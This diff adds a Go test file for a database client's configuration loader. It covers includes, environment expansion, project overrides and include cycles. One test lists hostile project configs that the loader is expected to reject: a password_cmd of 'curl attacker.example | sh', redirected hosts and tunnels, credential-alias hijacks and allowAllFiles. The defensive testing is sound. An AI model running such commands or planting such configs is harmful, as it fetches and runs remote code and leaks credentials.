@@ -0,0 +1,285 @@
+package pkg_test
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"codeberg.org/ale-cci/connect/pkg"
+)
+
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0700); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadConfigIncludesAndEnv(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	t.Setenv("CONNECT_TEST_HOST", "10.0.1.5")
+
+	configPath := filepath.Join(dir, "config.yaml")
+	writeFile(t, configPath, `
+include:
+  - conf.d/*.yaml
+databases:
+  sales:
+    host: ${CONNECT_TEST_HOST}
+    port: 3306
+    driver: mysql
+options:
+  autolimit: 100
+  theme: mono
+  colors:
+    keyword: "1;34"
+`)
+	writeFile(t, filepath.Join(dir, "conf.d", "a.yaml"), `
+databases:
+  billing:
+    host: billing.internal
+    driver: mysql
+`)
+	writeFile(t, filepath.Join(dir, "conf.d", "b.yaml"), `
+databases:
+  sales:
+    host: override.internal
+    driver: mysql
+options:
+  histsize: 50
+  colors:
+    comment: "2"
+`)
+
+	cnf, err := pkg.LoadConfig(configPath)
+	if err != nil {
+		t.Fatalf("expected nil error, got %v", err)
+	}
+
+	if len(cnf.Databases) != 2 {
+		t.Errorf("expect 2 databases, got %v", cnf.Databases)
+	}
+	if cnf.Databases["sales"].Host != "override.internal" {
+		t.Errorf("expect included file to override main file, got %q", cnf.Databases["sales"].Host)
+	}
+	if cnf.Options.AutoLimit != 100 || cnf.Options.HistSize != 50 {
+		t.Errorf("expect options to be merged, got %+v", cnf.Options)
+	}
+	if cnf.Options.Theme != "mono" || len(cnf.Options.Colors) != 2 {
+		t.Errorf("expect theme and colors to be merged, got %+v", cnf.Options)
+	}
+
+	raw, err := pkg.ReadConfigFile(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if raw.Databases["sales"].Host != "${CONNECT_TEST_HOST}" || len(raw.Databases) != 1 {
+		t.Errorf("expect ReadConfigFile to return the file as written, got %+v", raw.Databases)
+	}
+}
+
+func TestLoadConfigEnvExpansion(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	t.Setenv("CONNECT_TEST_HOST", "10.0.1.5")
+
+	configPath := filepath.Join(dir, "config.yaml")
+	writeFile(t, configPath, `
+databases:
+  sales:
+    host: ${CONNECT_TEST_HOST}
+    database: sales_${CONNECT_TEST_UNSET}db
+`)
+
+	cnf, err := pkg.LoadConfig(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cnf.Databases["sales"].Host != "10.0.1.5" {
+		t.Errorf("expect host to be expanded, got %q", cnf.Databases["sales"].Host)
+	}
+	if cnf.Databases["sales"].Database != "sales_db" {
+		t.Errorf("expect unset variables to expand to empty string, got %q", cnf.Databases["sales"].Database)
+	}
+}
+
+func TestLoadConfigProjectOverride(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "home", "config.yaml")
+	writeFile(t, configPath, `
+credentials:
+  dev:
+    username: root
+    password: secret
+databases:
+  app:
+    host: prod.internal
+    port: 3306
+    alias: dev
+    database: app
+  other:
+    host: other.internal
+`)
+	writeFile(t, filepath.Join(dir, "project", pkg.ProjectConfigFile), `
+databases:
+  app:
+    database: app_test
+    tag: [project]
+  local:
+    host: 127.0.0.1
+`)
+
+	nested := filepath.Join(dir, "project", "src", "pkg")
+	if err := os.MkdirAll(nested, 0700); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(nested)
+
+	cnf, err := pkg.LoadConfig(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	app := cnf.Databases["app"]
+	if app.Database != "app_test" || app.Host != "prod.internal" || app.Port != 3306 {
+		t.Errorf("expect project config to override the database only, got %+v", app)
+	}
+	if cnf.Databases["local"].Host != "127.0.0.1" {
+		t.Errorf("expect project config to add aliases, got %+v", cnf.Databases)
+	}
+	if cnf.Databases["other"].Host != "other.internal" {
+		t.Errorf("expect other aliases to be kept, got %+v", cnf.Databases)
+	}
+}
+
+func TestLoadConfigUntrustedProject(t *testing.T) {
+	table := []struct {
+		name    string
+		project string
+	}{
+		{
+			name: "credentials",
+			project: `
+credentials:
+  dev:
+    username: root
+    password_cmd: curl attacker.example | sh
+`,
+		},
+		{
+			name: "host of an existing alias",
+			project: `
+databases:
+  app:
+    host: attacker.example
+`,
+		},
+		{
+			name: "tunnel of an existing alias",
+			project: `
+databases:
+  app:
+    tunnel: me@attacker.example
+`,
+		},
+		{
+			name: "credential of an existing alias",
+			project: `
+databases:
+  app:
+    alias: other
+`,
+		},
+		{
+			name: "driver of an existing alias",
+			project: `
+databases:
+  app:
+    driver: postgres
+`,
+		},
+		{
+			name: "params of an existing alias",
+			project: `
+databases:
+  app:
+    params:
+      allowAllFiles: "true"
+`,
+		},
+		{
+			name: "new alias using a credential",
+			project: `
+databases:
+  evil:
+    host: attacker.example
+    driver: mysql
+    alias: prod
+`,
+		},
+		{
+			name: "new alias using a credential in its url",
+			project: `
+databases:
+  evil:
+    url: mysql://attacker.example/app?alias=prod
+`,
+		},
+		{
+			name: "url of an existing alias",
+			project: `
+databases:
+  app:
+    url: mysql://attacker.example/app
+`,
+		},
+	}
+
+	for _, tc := range table {
+		dir := t.TempDir()
+		configPath := filepath.Join(dir, "home", "config.yaml")
+		writeFile(t, configPath, `
+credentials:
+  prod:
+    username: admin
+    password: secret
+  other:
+    username: other
+    password: secret
+databases:
+  app:
+    host: prod.internal
+    port: 3306
+    alias: prod
+    driver: mysql
+`)
+		writeFile(t, filepath.Join(dir, "project", pkg.ProjectConfigFile), tc.project)
+		t.Chdir(filepath.Join(dir, "project"))
+
+		if _, err := pkg.LoadConfig(configPath); err == nil {
+			t.Errorf("%s: expected the project configuration to be rejected", tc.name)
+		}
+	}
+}
+
+func TestLoadConfigIncludeCycle(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+
+	writeFile(t, filepath.Join(dir, "config.yaml"), "include: [other.yaml]\n")
+	writeFile(t, filepath.Join(dir, "other.yaml"), "include: [config.yaml]\n")
+
+	if _, err := pkg.LoadConfig(filepath.Join(dir, "config.yaml")); err == nil {
+		t.Errorf("expected include cycle error")
+	}
+}
+
+func TestDefaultConfigPath(t *testing.T) {
+	t.Setenv(pkg.ConfigEnv, "/tmp/connect.yaml")
+	if got := pkg.DefaultConfigPath(); got != "/tmp/connect.yaml" {
+		t.Errorf("expect %s to override the path, got %q", pkg.ConfigEnv, got)
+	}
+}